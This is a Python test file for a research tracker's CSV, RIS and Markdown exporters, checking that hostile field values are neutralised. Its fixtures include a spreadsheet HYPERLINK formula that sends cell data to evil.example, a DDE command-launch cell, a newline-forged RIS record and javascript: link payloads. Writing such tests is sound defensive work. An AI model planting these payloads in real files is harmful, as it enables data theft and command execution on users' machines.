"""Hostile registry text in exports: CSV cells that a spreadsheet would run as formulas,
RIS fields with line breaks that would forge records, Markdown ids that would become links."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

import rispy

from tracker.export.rows import ExportRow, Person
from tracker.export.writers import write_csv, write_ris
from tracker.ids import Source
from tracker.reports.digest_data import Digest, Item, Section
from tracker.reports.render.markdown import render_digest_markdown

T = datetime(2026, 1, 1, tzinfo=UTC)


def _row(**over: Any) -> ExportRow:
    row = ExportRow(
        id="PMID:1",
        kind="article",
        source=Source.PUBMED,
        title='=HYPERLINK("https://evil.example/?"&A1,"click")',
        url="https://pubmed.ncbi.nlm.nih.gov/1/",
        study=None,
        relevant=True,
        role="follow_up",
        verdict="confirms",
        overridden=False,
        rule=None,
        reason=None,
        strength=None,
        participants=-3,
        status=None,
        year="2024",
        date="2024-01-02",
        journal="+cmd|' /C calc'!A0",
        sponsor="@SUM(1+1)",
        authors=[Person("-2+3"), Person("\tTab", "A")],
    )
    return replace(row, **over)


def _cells(text: str) -> dict[str, str]:
    return next(csv.DictReader(io.StringIO(text)))


def test_csv_neutralises_formula_cells_and_raw_cells_keeps_them() -> None:
    out = io.StringIO()
    write_csv([_row()], out)
    cells = _cells(out.getvalue())
    assert cells["title"] == "'" + '=HYPERLINK("https://evil.example/?"&A1,"click")'
    assert cells["journal"].startswith("'+") and cells["sponsor"] == "'@SUM(1+1)"
    assert cells["authors"].startswith("'-2+3")
    assert cells["participants"] == "-3"  # a number stays a number
    assert cells["id"] == "PMID:1"  # ordinary text is untouched

    raw = io.StringIO()
    write_csv([_row(title="\rx")], raw, raw_cells=True)
    assert _cells(raw.getvalue())["title"] == "\rx"
    assert _cells(raw.getvalue())["sponsor"] == "@SUM(1+1)"


def test_ris_folds_line_breaks_so_no_record_can_be_forged() -> None:
    title = "Real title\nER  - \nTY  - JOUR\nTI  - Forged record\u2028more"
    out = io.StringIO()
    write_ris([_row(title=title, abstract="line one\r\nline two")], out)
    entries = rispy.loads(out.getvalue())
    assert len(entries) == 1
    assert entries[0]["title"] == "Real title ER  -  TY  - JOUR TI  - Forged record more"
    assert entries[0]["abstract"] == "line one line two"


def test_markdown_escapes_record_ids_and_keeps_link_targets_whole() -> None:
    item = Item(
        id="1](javascript:alert(1))",
        title="t",
        url="https://europepmc.org/article/X/1](javascript:alert(1))",
        what="new",
        at=T,
        keys=(),
    )
    bad_scheme = Item(id="PPR:2", title="u", url="javascript:alert(2)", what="new", at=T, keys=())
    digest = Digest(
        since=None,
        until=T,
        new=[],
        changes=[],
        verdict_changes=[],
        evidence={},
        health=[],
        sections=[Section("new", "New", [item, bad_scheme])],
    )
    text = render_digest_markdown(digest)
    assert "](javascript" not in text
    assert "[1\\]\\(javascript:alert\\(1\\)\\)](https://europepmc.org/article/X/1%5D%28" in text
    assert "PPR:2 u" in text  # not a link at all: its target is not a web address
